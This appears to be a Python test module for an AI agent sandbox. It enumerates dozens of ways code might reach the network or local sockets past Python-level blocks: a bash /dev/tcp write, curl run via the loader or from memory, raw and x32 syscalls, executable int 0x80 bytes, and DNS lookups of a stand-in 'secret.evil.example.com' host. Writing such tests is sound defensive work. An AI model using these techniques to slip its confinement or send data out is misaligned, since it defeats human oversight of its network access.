"""Ways to the network, past what Python has; and to sockets of this machine."""

import asyncio
import ctypes
import os
import socket
import subprocess
import sys

from tests.agents.wall.ways.way import FAST_OPEN, LIBC, Place, call, number, sockaddr, way


@way("127.0.0.1:")
def libc(to: Place) -> None:
    LIBC.connect(socket.socket().detach(), sockaddr(to.tcp), 16)


@way("127.0.0.1:")
def a_bare_system_call(to: Place) -> None:
    call(number("connect"), socket.socket().detach(), sockaddr(to.tcp), 16)


@way("127.0.0.1:")
def curl(to: Place) -> None:
    subprocess.run(("curl", "-sm", "1", f"http://127.0.0.1:{to.tcp}/"), check=False)


@way("127.0.0.1:")
def bash(to: Place) -> None:
    subprocess.run(("bash", "-c", f"echo x > /dev/tcp/127.0.0.1/{to.tcp}"), check=False)


@way("127.0.0.1:")
def another_python(to: Place) -> None:
    code = f"import socket; socket.socket().connect(('127.0.0.1', {to.tcp}))"
    subprocess.run((sys.executable, "-ISc", code), check=False, start_new_session=True)


@way("127.0.0.1:")
def the_loader_of_programs(to: Place) -> None:
    loader = next(each for each in _LOADERS if os.path.exists(each))
    subprocess.run((loader, "/usr/bin/curl", "-sm", "1", f"http://127.0.0.1:{to.tcp}/"), check=False)


_LOADERS = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")


@way("127.0.0.1:")
def a_program_in_memory(to: Place) -> None:
    made = os.memfd_create("program", 0)
    with open("/usr/bin/curl", "rb") as program:
        os.write(made, program.read())
    arguments = ("curl", "-sm", "1", f"http://127.0.0.1:{to.tcp}/")
    if os.fork() == 0:
        os.execve(f"/proc/self/fd/{made}", arguments, dict(os.environ))
    os.wait()


@way("data to 127.0.0.1:")
def data_before_a_connection(to: Place) -> None:
    socket.socket().sendto(b"x", FAST_OPEN, ("127.0.0.1", to.tcp))


@way("data to 127.0.0.1:")
def a_message_before_a_connection(to: Place) -> None:
    socket.socket().sendmsg([b"x"], [], FAST_OPEN, ("127.0.0.1", to.tcp))


@way("127.0.0.1:")
def a_connection_put_off(to: Place) -> None:
    made = socket.socket()
    made.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    made.connect(("127.0.0.1", to.tcp))
    made.send(b"x")


@way("protocol 262")
def several_ways_at_once(to: Place) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("127.0.0.1", to.tcp))  # MPTCP


@way("a datagram socket")
def udp(to: Place) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", to.udp))


@way("a datagram socket")
def udp_connected(to: Place) -> None:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.connect(("127.0.0.1", to.udp))
    made.send(b"x")


@way("a datagram socket")
def udp_message(to: Place) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("127.0.0.1", to.udp))


@way("a datagram socket")
def udp_over_ipv6(to: Place) -> None:
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::1", to.udp6))


@way("a datagram socket")
def asyncio_datagrams(to: Place) -> None:
    async def go() -> None:
        loop = asyncio.get_running_loop()
        made, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=("127.0.0.1", to.udp)
        )
        made.sendto(b"x")
        await asyncio.sleep(0.05)

    asyncio.run(go())


@way("a datagram socket", bare=False)
def udp_lite(to: Place) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)


@way("a raw socket of AF_INET", bare=False)
def raw(to: Place) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@way("a raw socket of AF_PACKET", bare=False)
def packets(to: Place) -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)


@way("AF_NETLINK", bare=False)
def netlink(to: Place) -> None:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)


@way("AF_VSOCK", bare=False)
def vsock(to: Place) -> None:
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@way("AF_ALG", bare=False)
def the_kernels_ciphers(to: Place) -> None:
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


@way("a place of its own at 127.0.0.1:", bare=False)
def a_place_to_call_at(to: Place) -> None:
    socket.create_server(("127.0.0.1", 0))


@way("listening", bare=False)
def listening_anywhere(to: Place) -> None:
    socket.socket().listen(1)


@way("the name evil.example.com", bare=False)
def a_name(to: Place) -> None:
    socket.getaddrinfo("evil.example.com", 80)


@way("the name secret.evil.example.com", bare=False)
def a_name_the_old_way(to: Place) -> None:
    socket.gethostbyname("secret.evil.example.com")


@way("the name evil.example.com", bare=False)
def a_name_by_a_program(to: Place) -> None:
    subprocess.run(("getent", "hosts", "evil.example.com"), check=False)


@way("io_uring", bare=False)
def io_uring(to: Place) -> None:
    call(number("io_uring_setup"), 4, ctypes.create_string_buffer(120))


@way("a call of another machine", bare=False)
def a_call_of_32_bits(to: Place) -> None:
    if os.uname().machine != "x86_64":
        raise NotImplementedError
    import mmap

    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20; int 0x80; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


@way("a call of another machine", bare=False)
def a_call_of_x32(to: Place) -> None:
    if os.uname().machine != "x86_64":
        raise NotImplementedError
    call(0x40000000 + 42, socket.socket().detach(), sockaddr(to.tcp), 16)


@way("the socket ")
def a_socket_in_a_folder(to: Place) -> None:
    socket.socket(socket.AF_UNIX).connect(to.stream)


@way("the socket ")
def packets_to_a_folder(to: Place) -> None:
    socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(to.packet)


@way("the socket ")
def a_socket_behind_a_link(to: Place) -> None:
    os.symlink(to.stream, "a-link-to-a-socket")
    socket.socket(socket.AF_UNIX).connect("a-link-to-a-socket")


@way("a datagram socket of AF_UNIX")
def a_datagram_to_a_folder(to: Place) -> None:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", to.dgram)


@way("a datagram socket of AF_UNIX")
def a_datagram_by_one_of_a_pair(to: Place) -> None:
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendmsg([b"x"], [], 0, to.dgram)


@way("the abstract socket ")
def an_abstract_socket(to: Place) -> None:
    socket.socket(socket.AF_UNIX).connect("\0" + to.abstract_stream)


@way("a datagram socket of AF_UNIX")
def an_abstract_datagram(to: Place) -> None:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", "\0" + to.abstract_dgram)
